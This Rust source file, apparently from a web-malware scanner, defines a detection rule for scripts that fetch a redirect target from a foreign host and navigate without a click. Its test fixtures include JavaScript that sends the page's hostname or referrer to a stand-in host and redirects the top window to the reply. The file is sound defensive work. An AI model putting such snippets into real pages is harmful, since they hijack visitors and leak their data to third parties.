//! `answer-text-leads-away`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::stream::Kind;
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "answer-text-leads-away",
    description: "The script asks another host where to send the visitor, and goes there without a click.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::ForeignAnswerNavigates])],
    within: 0,
    only_if: Some(is_led),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"var x=new XMLHttpRequest();x.open('GET','https://c.example/t?d='+location.hostname,true);x.onreadystatechange=function(){if(x.readyState===4&&x.responseText)window.top.location.replace(x.responseText)};x.send()"#,
            r#"fetch('https://c.example/t?r='+encodeURIComponent(document.referrer)).then(r=>r.text()).then(t=>{if(t)location.href=t})"#,
        ],
        without: &[
            r#"var x=new XMLHttpRequest();x.open('GET','/next?d='+location.hostname,true);x.onload=function(){location.replace(x.responseText)};x.send()"#,
            r#"fetch('https://api.example/login',{method:'POST',body:b}).then(r=>r.json()).then(d=>{location.href=d.url})"#,
            r#"pay.onclick=function(){fetch('https://pay.example/session',{method:'POST'}).then(r=>r.text()).then(t=>{location.href=t})}"#,
        ],
    },
};

/// Whether the whole text of the answer is the address, and nobody starts the request.
fn is_led(evidence: &Evidence<'_>, held: Held) -> bool {
    let near = Near::new(evidence, held, AROUND);
    let sink = held.last as usize;
    let is_led = || (sink + 2..sink + 4).any(|at| is_answer_text(near, at));
    near.runs_unasked(sink) && (near.has_fact(&[Atom::CodedAsked]) || is_led())
}

/// Whether an item is the text of an answer as it came: `x.responseText`, or `t` of `.text()).then(t => …)`.
fn is_answer_text(near: Near<'_>, at: usize) -> bool {
    let ends = |at: usize| near.is(at, b';') || near.is(at, b')') || near.is(at, b'}');
    if near.kind(at) == Some(Kind::Name) && near.word(at + 1) == "responseText" {
        return ends(at + 2);
    }
    let body = near.body_around(at);
    let read = body.start.saturating_sub(HEAD)..body.start;
    ends(at + 1)
        && near.kind(at) == Some(Kind::Name)
        && near.among(read.clone()).words(&["then"]).any(|then| near.is(then + 1, b'('))
        && near.among(read).words(&["text"]).any(|text| near.is(text + 1, b'('))
        && (body.start.saturating_sub(PARAMETER)..body.start).any(|name| near.word(name) == near.word(at))
}

/// Items of a request and what is done with its answer.
const AROUND: usize = 120;
/// Items from the text of an answer to the body that takes it.
const HEAD: usize = 16;
/// Items from a parameter to the body.
const PARAMETER: usize = 4;
